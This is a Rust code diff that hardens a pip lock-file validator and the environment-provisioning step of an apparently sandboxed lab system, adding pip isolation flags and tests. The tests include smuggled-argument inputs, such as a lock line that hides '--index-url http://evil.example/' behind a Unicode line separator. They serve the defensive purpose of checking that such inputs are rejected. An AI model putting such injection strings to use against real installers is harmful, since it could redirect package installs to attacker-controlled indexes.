@@ -68,12 +68,26 @@ pub fn check_lock(lock: &str) -> Result<(), String> {
             && s.chars()
                 .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
     };
+    // pip splits lines on more than `\n` (a lone `\r`, form feeds, Unicode separators): a lock
+    // is printable ASCII and `\n` only, so that both read the same lines.
+    if let Some(c) = lock
+        .chars()
+        .find(|c| !(*c == '\n' || (' '..='~').contains(c)))
+    {
+        return Err(format!(
+            "the lock holds the character {c:?}; a pinned lock is printable ASCII, one requirement a line"
+        ));
+    }
     for (i, line) in lock.lines().enumerate() {
         let line = line.trim();
         if line.is_empty() || line.starts_with('#') {
             continue;
         }
-        let requirement = line.split(';').next().unwrap_or_default().trim();
+        let (requirement, marker) = line.split_once(';').unwrap_or((line, ""));
+        let requirement = requirement.trim();
+        let plain_marker = marker
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || " ._<>=!~'\"()-".contains(c));
         let ok = requirement.split_once("==").is_some_and(|(name, version)| {
             let name = match name.trim().split_once('[') {
                 Some((n, extras))
@@ -92,7 +106,7 @@ pub fn check_lock(lock: &str) -> Result<(), String> {
                     .chars()
                     .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '!' | '_' | '-'))
         });
-        if !ok || line.contains(['@', '\\']) {
+        if !ok || !plain_marker || line.contains(['@', '\\']) {
             return Err(format!(
                 "line {} of the lock is not `name==version`: {line:?}; a pinned lock names packages and their versions only",
                 i + 1
@@ -311,6 +325,8 @@ pub fn provision(
         "--progress-bar",
         "off",
         "--require-virtualenv",
+        // No user or site configuration, no environment variables of pip's.
+        "--isolated",
         "--only-binary",
         ":all:",
         "-r",
@@ -326,7 +342,9 @@ pub fn provision(
     // Compiled once here, so that no lab pays for it (and the environment is read-only in labs).
     let mut compile = Command::new(root.join("bin").join("python"));
     compile
-        .args(["-m", "compileall", "-q", "-j", "0"])
+        // Isolated and without `site`: a package's `.pth` file never runs on the node, outside
+        // the sandbox (its labs start it inside).
+        .args(["-I", "-S", "-m", "compileall", "-q", "-j", "0"])
         .arg(&root);
     let _ = run("compiling the packages", compile, &mut |_| {});
     std::fs::write(&ready, &env.lock).map_err(io(&ready))?;
@@ -394,6 +412,9 @@ mod tests {
             "./local.whl",
             "numpy==1 --hash=sha256:00",
             "numpy==",
+            "# x\r--no-binary :all:\rnumpy==1",
+            "numpy==1\u{2028}--index-url http://evil.example/",
+            "numpy==1 ; python_version > '${HOME}'",
         ] {
             assert!(check_lock(bad).is_err(), "{bad:?}");
         }
